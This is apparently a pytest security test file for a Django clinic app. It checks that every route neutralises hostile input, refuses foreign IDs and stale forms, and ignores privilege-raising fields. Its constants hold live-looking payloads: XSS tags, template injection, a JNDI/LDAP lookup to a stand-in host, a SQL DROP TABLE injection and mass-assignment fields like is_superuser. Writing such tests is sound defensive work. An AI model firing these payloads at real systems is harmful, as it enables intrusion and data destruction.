# SPDX-License-Identifier: Apache-2.0
"""Every route asked in ways nobody asks: bad input 57, 58, 67 and 71 to 74."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from django.db import connection, models
from django.test import Client as Browser
from django.test.utils import CaptureQueriesContext
from django.urls import get_resolver
from tests.clinic_world import (
    HIGH,
    LOW,
    PASSWORD,
    World,
    fields,
    make_world,
    opened,
    submission_id,
    without_nonces,
)

from attunement.clinic.models import (
    Answer,
    AuditEvent,
    CareEpisode,
    Client,
    Dyad,
    Login,
    Practice,
    Response,
    Role,
    Score,
    Therapist,
)

WORDS = (
    "<img src=x onerror=alert(1)></textarea><script>alert(1)</script>{{7*7}}{% load x %}"
    "${jndi:ldap://attunement.example/a}'; DROP TABLE clinic_answer; --\u202etxt.exe\u202c 🙂"
)
# What no page takes: pages and orders of rows, and the fields that an attacker would name.
QUERY = (
    "?page=0&page_size=-1&per_page=1000000000&limit=-1&offset=99999999999999999999&cursor=%27"
    "&sort=password&order_by=-login__password&ordering=display_name_sealed&fields=*&include=*"
    "&q=%00%25_%27&filter[role]=lead&format=csv"
)
ROLE_FIELDS = {
    "role": "lead", "practice": "x", "practice_id": "x", "tenant_id": "x", "login": "x",
    "is_staff": "1", "is_superuser": "1", "is_active": "", "visibility": "open", "score": "6",
    "value": "6", "reveal_at": "1970-01-01", "provenance": "paper", "id": "x", "pk": "x",
    "__proto__": "x", "constructor": "x",
}  # fmt: skip
SHAPES = ("a" * 26, "-1", "9223372036854775808", "6F9619FF-8B86-D011-B42D-00CF4FC964FF",
          "x' OR 1=1 --", "é" * 26, "0", "%00", "null")  # fmt: skip
SHOWN_KINDS = {"text/html", "text/css", "text/plain", "text/javascript", "application/json"}


def lead_of(world: World) -> Browser:
    login = Login.objects.create_user(
        username="synthetic-lead", password=PASSWORD, practice=world.practice, role=Role.LEAD
    )
    browser = Browser()
    browser.force_login(login)
    return browser


def addresses(world: World, session_id: str) -> list[str]:
    """Return every route, with this world's dyad and session where it asks for one."""
    patterns = [str(each.pattern) for each in get_resolver().url_patterns]
    known = {"<str:dyad_id>": world.dyad.pk, "<str:session_id>": session_id}
    for hole, key in known.items():
        patterns = [each.replace(hole, key) for each in patterns]
    return ["/" + each for each in patterns if "<" not in each]


def asked_by_their_own(world: World, session_id: str) -> Iterator[tuple[Browser, str]]:
    """Return every route with the browser of somebody whom it is for."""
    therapist, lead = world.browser(), lead_of(world)
    for address in addresses(world, session_id):
        of_leads = address.startswith(("/team", "/rules", "/held", "/risk"))
        if not address.startswith(("/accounts/logout", "/kiosk")):  # they end the log-in
            yield (lead if of_leads else therapist), address


def test_row_57_hostile_words_are_inert_on_every_page_and_there_is_no_other_way_out(
    world: World,
) -> None:
    """Sheets to print are these pages; mails are constant texts; nothing gives CSV or PDF."""
    session_id = world.start()
    world.client_answers(session_id, LOW, WORDS)
    world.therapist_answers(session_id)
    Client.objects.update(code="<b>C-07")
    Login.objects.filter(pk=world.login.pk).update(display_name="<img src=x>{{7*7}}")
    n_shown = 0
    for browser, address in asked_by_their_own(world, session_id):
        page = browser.get(address + QUERY)
        assert page.status_code < 500, address
        kind = page.headers.get("Content-Type", "text/html").partition(";")[0]
        assert kind in SHOWN_KINDS, address
        text = page.content.decode()
        n_shown += "onerror=" in text
        for live in ("<img src=x", "<script>alert", "<b>C-07"):
            assert live not in text, address
        if "jndi" in text:
            assert "{{7*7}}{% load x %}" in text, address
    assert n_shown >= 1


def test_row_58_body_that_is_no_form_is_refused_and_noted(world: World) -> None:
    strict = Browser(enforce_csrf_checks=True)
    strict.cookies = opened(world.invite(world.start())[0]).cookies
    strict.get("/c/form")
    for kind in ("text/plain", "application/json", ""):
        before = AuditEvent.objects.count()
        answer = strict.generic("POST", "/c/form", "item-1=3&csrfmiddlewaretoken=x", kind)
        assert answer.status_code == 403
        assert AuditEvent.objects.count() == before + 1
        last = AuditEvent.objects.latest("id")
        assert (last.action, last.outcome, last.actor) == ("form.refused", "refused", "anonymous")
    assert not Response.objects.exists()


@pytest.mark.parametrize("method", ["PUT", "PATCH", "DELETE"])
def test_row_67_no_route_takes_another_method(world: World, method: str) -> None:
    """Not even from our own page, whose token these requests are not asked for."""
    session_id = world.start()
    browser = world.browser()
    for address in addresses(world, session_id):
        assert browser.generic(method, address).status_code == 405, address


def _asked(browser: Browser, method: str, address: str, key: str) -> tuple[Any, ...]:
    with CaptureQueriesContext(connection) as asked:
        page = getattr(browser, method)(address.format(key))
    _, _, body = without_nonces(page)
    kinds = tuple(each["sql"].partition(' "s')[0].split(" (")[0][:40] for each in asked)
    return page.status_code, body, kinds


@pytest.mark.parametrize(
    ("method", "address", "of"),
    [
        ("get", "/clients/{}/", "dyad"),
        ("get", "/clients/{}/ledger", "dyad"),
        ("post", "/clients/{}/sessions/new", "dyad"),
        ("get", "/sessions/{}/", "session"),
        ("get", "/sessions/{}/status", "session"),
        ("post", "/sessions/{}/invite", "session"),
    ],
)
def test_row_71_foreign_id_costs_what_an_id_of_nothing_costs(
    world: World, method: str, address: str, of: str
) -> None:
    """The same page after the same work: the store is asked the same questions in every case."""
    other = make_world(login="another-therapist")
    foreign = other.dyad.pk if of == "dyad" else other.start()
    browser = world.browser()
    browser.get("/")
    answers = {_asked(browser, method, address, key) for key in (foreign, *SHAPES[:5])}
    assert len(answers) == 1
    assert {status for status, *_ in answers} == {404}
    for key in SHAPES[5:]:
        assert getattr(browser, method)(address.format(key)).status_code == 404, key


def test_row_72_page_that_went_stale_changes_nothing_whatever_it_matches(world: World) -> None:
    """There is no If-Match here: the signed id of a form says which one it is."""
    session_id = world.start()
    tabs = (world.browser(), world.browser())
    address = f"/sessions/{session_id}/rate"
    sent = [
        fields(answers) | {"submission_id": submission_id(tab.get(address)), "predicted_total": "4"}
        for tab, answers in zip(tabs, (HIGH, LOW), strict=True)
    ]
    assert tabs[0].post(address, sent[0]).status_code == 303
    for match in ('"stale"', "*", 'W/"x", "y"', "\x80" * 10):
        for headers in (
            {"If-Match": match},
            {"If-Unmodified-Since": "Thu, 01 Jan 1970 00:00:00 GMT"},
        ):
            assert tabs[1].post(address, sent[1], headers=headers).status_code == 410
            assert tabs[0].post(address, sent[0] | fields(LOW), headers=headers).status_code == 409
    assert Answer.objects.get(item="1", response__perspective="therapist").value == HIGH["1"]
    page = tabs[0].get("/", headers={"If-None-Match": "*", "If-Modified-Since": "2099"})
    assert page.status_code == 200  # never 304: nothing of a person is kept anywhere
    assert "ETag" not in page.headers


def test_row_73_no_page_takes_a_size_or_an_order(world: World) -> None:
    """Pages that list something are the same with such a query; the walk above has all others."""
    world.rated()
    own = f"/clients/{world.dyad.pk}/"
    of_therapists = ("/", "/day/", own, f"{own}ledger", "/signals/", "/paper/", "/me/calibration")
    of_leads = ("/", "/rules/", "/risk/", "/held/", "/team/", "/team/answers/", "/team/messages")
    for browser, pages in ((world.browser(), of_therapists), (lead_of(world), of_leads)):
        for address in pages:
            plain, asked = browser.get(address), browser.get(address + QUERY)
            assert (plain.status_code, asked.status_code) == (200, 200), address
            assert without_nonces(plain)[2] == without_nonces(asked)[2], address


def test_row_74_no_route_takes_a_field_that_makes_somebody_more(world: World) -> None:
    session_id = world.rated()

    def rows() -> list[Any]:
        tables: tuple[type[models.Model], ...] = (
            Practice, Login, Therapist, Client, Dyad, CareEpisode, Response, Answer, Score,
        )  # fmt: skip
        return [
            {name: value for name, value in row.items() if name != "last_login"}
            for table in tables
            for row in table._default_manager.order_by("pk").values()
        ]

    walk = list(asked_by_their_own(world, session_id))
    walk += [(Browser(), address) for _, address in walk if address.startswith("/c/")]
    before = rows()
    for browser, address in walk:
        assert browser.post(address, ROLE_FIELDS).status_code < 500, address
    person = {"login": world.login.username, "password": PASSWORD} | {"role": "lead", "next": "/"}
    assert Browser().post("/accounts/login/", person | {"is_superuser": "1"}).status_code == 302
    assert rows() == before
